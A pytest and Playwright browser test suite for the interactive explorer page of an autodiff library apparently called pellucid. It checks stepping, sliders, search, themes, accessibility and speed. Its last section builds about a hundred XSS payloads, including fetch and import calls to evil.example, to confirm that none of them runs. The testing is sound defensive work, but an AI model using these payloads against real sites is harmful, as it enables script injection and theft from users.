"""The explorer's page in a real browser: steps, sliders, keys, themes, size; and that no text of the user's runs."""

import importlib.util
import json
import os
import re
import shutil
import time
from itertools import cycle

import pytest

import pellucid as torch
from pellucid import nn
from pellucid.explorer import examples, explore, page, snapshot
from pellucid.scalar import Value

CHROMIUM = os.environ.get("PELLUCID_CHROMIUM") or next(
    filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None
)
if importlib.util.find_spec("playwright") is None:
    pytest.skip("needs playwright: pip install playwright", allow_module_level=True)
if CHROMIUM is None:
    pytest.skip("needs a Chromium: apt install chromium, or PELLUCID_CHROMIUM=/path/to/it", allow_module_level=True)

from playwright.sync_api import sync_playwright  # noqa: E402

OPTIONS = [
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync",
]  # fmt: skip
WIDE, NARROW = {"width": 1280, "height": 800}, {"width": 390, "height": 844}


@pytest.fixture(scope="module")
def browser():
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=OPTIONS)
        yield chromium
        chromium.close()


@pytest.fixture(scope="module")
def gallery(tmp_path_factory):
    path = tmp_path_factory.mktemp("explorer") / "examples.html"
    path.write_text(page(examples(), "Examples"), encoding="utf-8")
    return path.as_uri()


@pytest.fixture
def opened(browser):
    """Open an address; every error of the page, dialog and request to anywhere else fails the test."""
    contexts, trouble = [], []

    def open_(address, **options):
        context = browser.new_context(viewport=options.pop("viewport", WIDE), **options)
        contexts.append(context)
        tab = context.new_page()
        tab.on("pageerror", lambda error: trouble.append(f"error: {error}"))
        tab.on("console", lambda message: trouble.append(message.text) if message.type == "error" else None)
        tab.on("dialog", lambda dialog: (trouble.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        tab.on("request", lambda request: request.url.startswith("file:") or trouble.append(f"request: {request.url}"))
        tab.goto(address)
        tab.wait_for_selector("html[data-ready]", timeout=20_000)
        return tab

    yield open_
    for context in contexts:
        context.close()
    assert trouble == []


def caption(tab):
    return tab.inner_text(".caption")


def texts(tab, node):
    """What a box shows: value and gradient."""
    tab.evaluate("() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
    box = tab.locator(f'g.box[data-node="{node}"]')
    return box.locator(".value").text_content(), box.locator(".grad").text_content()


def move(tab, leaf, value):
    tab.locator(f'input[data-leaf="{leaf}"]').evaluate(
        "(slider, value) => { slider.value = value; slider.dispatchEvent(new Event('input', { bubbles: true })); }",
        value,
    )


# --- steps


def test_forward_shows_question_marks_until_computed(opened, gallery):
    tab = opened(f"{gallery}#example=chain")
    assert [texts(tab, node)[0] for node in range(4)] == ["2", "?", "?", "?"]
    assert caption(tab) == "Start: x = 2 is given."
    tab.click("button.next")
    assert [texts(tab, node)[0] for node in range(4)] == ["2", "6", "?", "?"]
    assert caption(tab) == "a = x * 3 = 2 * 3 = 6."
    assert tab.locator("g.box.now").get_attribute("data-node") == "1"
    assert tab.locator("path.line.lit").count() == 1
    tab.click("button.last")
    assert [texts(tab, node) for node in range(4)] == [
        ("2", "grad ?"),
        ("6", "grad ?"),
        ("7", "grad ?"),
        ("49", "grad ?"),
    ]
    tab.click("button.next")  # after forward comes backward
    assert caption(tab) == "Start at the end: ∂c/∂c = 1."


def test_backward_step_by_step(opened, gallery):
    tab = opened(f"{gallery}#example=loss&mode=backward&step=0")
    assert texts(tab, 3)[1] == "(no grad)"
    seen = [caption(tab)]
    for _ in range(4):
        tab.keyboard.press("ArrowRight")
        seen.append(caption(tab))
    assert seen[1] == "Through loss = diff ** 2: ∂loss/∂diff = 1 × 0.6 = 0.6."
    assert seen[4] == "Through z1 = w * x: ∂loss/∂w = 0.6 × 2 = 1.2; ∂loss/∂x = 0.6 × 0.5 = 0.3."
    assert [texts(tab, node)[1] for node in range(3)] == ["grad 0.3", "grad 1.2", "grad 0.6"]
    tab.keyboard.press("Home")
    assert texts(tab, 0)[1] == "grad ?" and texts(tab, 7)[1] == "grad 1"


def test_two_paths_are_labelled_and_add_up(opened, gallery):
    tab = opened(f"{gallery}#example=accumulation")
    labels = tab.locator(".line-label").all_text_contents()
    assert labels == ["path 1: grad = 3", "path 2: grad = 3"]
    assert texts(tab, 0) == ("3", "grad 6")
    assert tab.inner_text(".sum") == "Two paths: 3 (direct) + 3 (direct) = 6"


def test_play_runs_forward_and_then_backward(opened, gallery):
    tab = opened(f"{gallery}#example=chain")
    tab.evaluate("() => { const set = window.setInterval; window.setInterval = (act) => set(act, 20); }")
    tab.keyboard.press(" ")
    tab.wait_for_selector(".caption:has-text('14 × 3 = 42')", timeout=5_000)
    tab.wait_for_selector("button.play[aria-label=Play]")


# --- values


def test_sliders_compute_everything_again(opened, gallery):
    tab = opened(f"{gallery}#example=sliders")
    slider = tab.locator('input[data-leaf="0"]')
    assert [slider.get_attribute(name) for name in ("min", "max", "step")] == ["-5", "5", "0.5"]
    assert tab.inner_text(".sum") == "Two paths: 5 (direct) + 3 (via sum) = 8"
    move(tab, 1, 0)
    assert texts(tab, 0) == ("2", "grad 0") and texts(tab, 3)[0] == "0"  # b = 0 kills the gradient of a
    move(tab, 1, -2)
    assert texts(tab, 0) == ("2", "grad -2") and tab.inner_text(".sum") == "Two paths: 0 (direct) - 2 (via sum) = -2"
    tab.fill('input[data-leaf-number="0"]', "4.5")
    assert texts(tab, 3) == ("-5", "grad 1")
    assert "∂c/∂b gets path 2: -2 × 1 = -2; two paths add up: 2.5 + (-2) = 0.5" in caption(tab)
    tab.click("text=Reset")
    assert texts(tab, 3)[0] == "15"


@pytest.mark.parametrize(("x", "expected"), [(-2, 0.0707), (-0.5, 0.7864), (0.5, 1.7864), (2, 1.0707)])
def test_relu_against_tanh(opened, gallery, x, expected):
    tab = opened(f"{gallery}#example=relu-tanh&v0={x}")
    assert float(texts(tab, 0)[1].removeprefix("grad ")) == pytest.approx(expected, abs=6e-4)


CHANGE_AND_READ = """(asked) => {
  const tell = (element, kind) => element.dispatchEvent(new Event(kind, { bubbles: true }));
  const find = (name) => document.querySelector(name);
  return asked.map(([index, value]) => {
    find("header select").value = index;
    tell(find("header select"), "change");
    const field = find("input[data-leaf-number]");
    field.value = value === null ? field.value : value;
    tell(field, "input");
    find("button.mode.backward").click();
    const captions = [find(".caption").textContent];
    for (let step = Number(find(".step-slider").max); step > 0; step--) {
      find("button.next").click();
      captions.push(find(".caption").textContent);
    }
    find("details.tree").open = true;
    return { captions, nodes: [...document.querySelectorAll(".tree li")].map((item) => item.textContent) };
  });
}"""


def test_the_page_computes_and_says_what_pellucid_does(opened, gallery):
    """Every live example, computed in the page after a change to the same value, gives the recorded sentences."""
    tab = opened(gallery)
    live = [(index, example) for index, example in enumerate(examples()) if example["live"]]
    assert len(live) >= 8
    told = tab.evaluate(CHANGE_AND_READ, [[index, None] for index, _ in live])
    for (_, example), found in zip(live, told, strict=True):
        assert found["captions"] == [step["caption"] for step in example["backward"]], example["id"]


OPERATIONS = [
    "a + b", "a - b", "a * b", "a / b", "a ** b", "a ** 3", "2 ** a", "1 - a", "-a", "2 / a", "a.exp()", "a.log()",
    "a.sqrt()", "a.abs()", "a.tanh()", "a.sigmoid()", "a.relu()", "a.sin()", "a.cos()", "a.tan()", "a.square()",
    "a.log1p()", "a.expm1()", "torch.where(a > b, a, b)", "torch.maximum(a, b)", "torch.minimum(a, b)",
    "torch.nn.functional.softplus(a)", "torch.nn.functional.silu(a)", "a.detach() * a", "a.clone()", "a.double() * b",
]  # fmt: skip


def test_every_operation_of_the_interpreter(opened, tmp_path):
    """At another point than the recorded one, values and gradients are those of Pellucid."""
    a, b, other = 0.7, 1.3, 1.9

    def run(source, a):
        x, y = (torch.tensor(value, dtype=torch.float64, requires_grad=True) for value in (a, b))
        return snapshot(lambda a, b: eval(source, {"torch": torch, "a": a, "b": b}) * b, x, y, scope={"a": x, "b": y})

    pages = [run(source, a) for source in OPERATIONS]
    (tmp_path / "ops.html").write_text(page(pages), encoding="utf-8")
    tab = opened((tmp_path / "ops.html").as_uri())
    told = tab.evaluate(CHANGE_AND_READ, [[index, str(other)] for index in range(len(OPERATIONS))])
    for source, found in zip(OPERATIONS, told, strict=True):
        seen = run(source, other)
        assert seen["live"], source
        for node in (0, 1, seen["root"]):
            value, gradient = re.search(r"value (\S+), gradient (\S+)", found["nodes"][node]).groups()
            expected = seen["nodes"][node]
            assert float(value) == pytest.approx(expected["value"]["numbers"][0], rel=1e-3), source
            assert float(gradient) == pytest.approx(expected["grad"]["numbers"][0], rel=1e-3, abs=1e-9), source


# --- finding things


def test_the_first_nan_is_found_by_a_button(opened, gallery):
    tab = opened(f"{gallery}#example=nan")
    first, gradient = tab.locator("button.alarm").all()
    assert first.inner_text() == "⚠ first -∞: log(x)"
    first.click()
    assert tab.locator("g.box.now").get_attribute("data-node") == "2" and "bad" in tab.locator(
        "g.box.now"
    ).get_attribute("class")
    gradient.click()
    assert "0 × ∞ = NaN" in caption(tab) and texts(tab, 0)[1] == "grad NaN"
    move(tab, 0, 2)  # away from the bad point there is nothing to warn of
    assert tab.locator("button.alarm").count() == 0


def test_search_finds_and_enter_goes_there(opened, gallery):
    tab = opened(f"{gallery}#example=nan")
    tab.keyboard.press("/")
    for query, found in [
        ("nan", "1 of 5"),
        ("inf", "1 of 5"),
        ("log", "3 of 5"),
        ("grad>0.5", "2 of 5"),
        ("line:3", "1 of 5"),
    ]:
        tab.fill("input.search", query)
        assert tab.inner_text(".found") == found, query
    tab.press("input.search", "Enter")
    assert "How it is computed: y" in tab.inner_text(".side")
    tab.press("input.search", "Escape")
    assert tab.inner_text(".found") == ""


def test_a_click_selects_and_the_address_can_be_shared(opened, gallery):
    tab = opened(f"{gallery}#example=sliders")
    tab.locator('g.box[data-node="2"]').click()
    move(tab, 0, 1)
    address = tab.evaluate("location.href")
    again = opened(address)
    assert "How it is computed: sum" in again.inner_text(".side")
    assert texts(again, 2)[0] == "4" and caption(again) == caption(tab)


def test_nonsense_in_the_address_is_ignored(opened, gallery):
    tab = opened(
        f"{gallery}#example=none&mode=sideways&step=99x&node=-4&v0=abc&theme=pink&search=%3Cimg%20onerror%3Dx%3E"
    )
    assert texts(tab, 0)[0] == "2"


# --- models and training


def test_modules_open_and_fold(opened, tmp_path):
    model = nn.Sequential(*[nn.TransformerEncoderLayer(8, 2, 16, batch_first=True, dropout=0.0) for _ in range(3)])
    path = explore(lambda model, x: model(x).sum(), model, torch.ones(1, 2, 8)).save_html(tmp_path / "model.html")
    tab = opened(path.as_uri())
    groups = tab.locator("g.box.module").count()
    assert groups >= 3
    tab.locator("g.box.module").first.click(force=True)
    tab.wait_for_timeout(100)
    assert tab.locator("g.box.op").count() > 3
    tab.locator(".crumbs button", has_text="model.0.self_attn").click()
    tab.wait_for_timeout(100)
    assert tab.locator("g.box.module").count() == groups


def test_training_is_played(opened, gallery):
    tab = opened(f"{gallery}#example=xor")
    assert tab.locator(".curves").count() == 2 and tab.locator(".training-frames canvas").count() >= 6
    tab.locator(".training input[type=range]").evaluate(
        "(s) => { s.value = 199; s.dispatchEvent(new Event('input')); }"
    )
    assert "predictions 0.00 1.00 1.00 0.00" in tab.inner_text(".training-said")
    tab.click(".play-training")
    tab.wait_for_selector(".training-said:not(:has-text('Step 199'))")


# --- everybody


def test_light_dark_and_the_button(opened, gallery):
    ground = "getComputedStyle(document.body).backgroundColor"
    light, dark = (opened(gallery, color_scheme=scheme) for scheme in ("light", "dark"))
    assert light.evaluate(ground) != dark.evaluate(ground)
    expected = dark.evaluate(ground)
    light.click("button.theme")
    assert light.evaluate(ground) == expected and "theme=dark" in light.evaluate("location.hash")


def test_everything_is_reached_by_keyboard_and_named(opened, gallery):
    tab = opened(f"{gallery}#example=sliders")
    for _ in range(60):
        tab.keyboard.press("Tab")
        focus = tab.evaluate(
            "(() => { const e = document.activeElement;"
            " return [e.tagName, e.getAttribute('aria-label') || e.textContent]; })()"
        )
        assert focus[0] == "BODY" or focus[1].strip(), focus
    unnamed = tab.evaluate(
        "[...document.querySelectorAll('button,input,select')]"
        ".filter((e) => !(e.getAttribute('aria-label') || e.textContent.trim())).length"
    )
    assert unnamed == 0
    assert tab.get_attribute(".caption", "aria-live") == "polite"
    listed = tab.locator(".tree li").all_text_contents()
    assert listed[1] == "b: value 3, gradient 8" and listed[3] == "c = sum * b: value 15, gradient 1"


def test_reduced_motion(opened, gallery):
    still = opened(f"{gallery}#example=accumulation", reduced_motion="reduce")
    assert still.locator("path.line.lit").first.evaluate("(e) => getComputedStyle(e).animationName") == "none"


@pytest.mark.parametrize("viewport", [WIDE, NARROW])
def test_nothing_sticks_out_sideways(opened, gallery, viewport):
    tab = opened(gallery, viewport=viewport)
    for index in range(len(examples())):
        tab.select_option("header select", str(index))
        wide = tab.evaluate("[document.documentElement.scrollWidth, innerWidth]")
        assert wide[0] <= wide[1], examples()[index]["id"]
        assert tab.locator("g.box").count() >= 1


# --- size


def wide_graph(size):
    rows = [torch.tensor(0.1 * i + 0.1, requires_grad=True) for i in range(8)]
    for k in range((size - 16) // 3):
        rows[k % 8] = (rows[k % 8] * rows[(k + 3) % 8]).tanh() + rows[(k + 1) % 8]
    total = rows[0]
    for row in rows[1:]:
        total = total + row
    return total


def test_five_thousand_nodes_open_in_two_seconds(opened, tmp_path):
    shown = explore(wide_graph(5_000))
    assert len(shown.snapshot["nodes"]) >= 4_990
    path = shown.save_html(tmp_path / "large.html")
    assert any(open_time(opened, path) < 2.0 for _ in range(4))  # the machine may be busy


def open_time(opened, path):
    start = time.perf_counter()
    tab = opened(path.as_uri())
    taken = time.perf_counter() - start
    assert tab.locator("g.box").count() < 400  # only what is visible
    return taken


# --- what the user wrote does not run


CALLS = ["canary()", "top.canary()", "alert(1)", "fetch('http://evil.example/')", "import('http://evil.example/x.js')"]
FRAMES = [
    "</script><script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "javascript:{}", '"><script>{}</script>', "'><img src=x onerror=\"{}\">", "&lt;script&gt;{}&lt;/script&gt;",
    "&quot;><script>{}</script>", "\u2028{}\u2029", "{{{{{}}}}}", "${{{}}}", "<iframe srcdoc='<script>{}</script>'>",
    "<style>*{{background:url(javascript:{})}}</style>", "<a href='javascript:{}'>", "<!--<script>{}</script>-->",
    "]]><script>{}</script>", "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<object data='javascript:{}'>", "<body onload={}>", "<details open ontoggle={}>",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
]  # fmt: skip
PAYLOADS = [frame.format(call) for frame in FRAMES for call in CALLS]


def hostile(value, payloads):
    """The same snapshot with every text in it replaced, each by the next payload."""
    if isinstance(value, dict):
        keep = ("mode", "row", "cells", "id")
        return {key: each if key in keep else hostile(each, payloads) for key, each in value.items()}
    if isinstance(value, list):
        return [hostile(each, payloads) for each in value]
    return next(payloads) if isinstance(value, str) and value not in ("NaN", "Infinity", "-Infinity") else value


VISIT = """async (payloads) => {
  const frame = () => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
  const tell = (element, kind) => element.dispatchEvent(new Event(kind, { bubbles: true }));
  const [picker, field] = ["header select", "input.search"].map((name) => document.querySelector(name));
  for (const [index, payload] of payloads.entries()) {
    picker.value = index;
    tell(picker, "change");
    await frame();
    for (const box of document.querySelectorAll("g.box")) ["click", "mouseover"].forEach((kind) => tell(box, kind));
    field.value = payload;
    tell(field, "input");
    await frame();
  }
}"""


def test_no_payload_runs(opened, tmp_path):
    assert len(PAYLOADS) >= 100
    chosen = [each for each in examples() if each["id"] in ("loss", "layer", "nan")]
    payloads = cycle(PAYLOADS)
    pages = [hostile(chosen[i % 3], payloads) for i in range(9)]
    told = json.dumps(pages)
    assert all(json.dumps(payload)[1:-1] in told for payload in PAYLOADS)
    path = tmp_path / "hostile.html"
    path.write_text(page(pages, PAYLOADS[0]), encoding="utf-8")
    tab = opened(path.as_uri())
    tab.evaluate("() => { window.canary = () => { window.sung = true; }; }")
    tab.evaluate(VISIT, PAYLOADS[: len(pages)])
    foreign = "script:not([nonce]):not(#data), img, iframe, object, a, form, math, body style"
    assert tab.locator(foreign).count() == 0
    assert tab.evaluate("window.sung") is None
    assert tab.evaluate("document.title") == PAYLOADS[0]


def test_no_payload_runs_in_a_notebook(opened, tmp_path):
    frames = []
    for payload in PAYLOADS[::10]:
        x = Value(2.0, label=payload)
        frames.append(explore(x * x, title=payload, scope={})._repr_html_())
    host = f"<!doctype html><html data-ready><script>canary = () => {{ sung = true }}</script>{''.join(frames)}</html>"
    (tmp_path / "notebook.html").write_text(host, encoding="utf-8")
    tab = opened((tmp_path / "notebook.html").as_uri())
    tab.wait_for_timeout(500)
    assert tab.evaluate("typeof sung") == "undefined"
    assert tab.locator("iframe").count() == len(frames)
    inside = tab.frames[1]
    inside.wait_for_selector("html[data-ready]")
    assert inside.locator("g.box").count() == 2
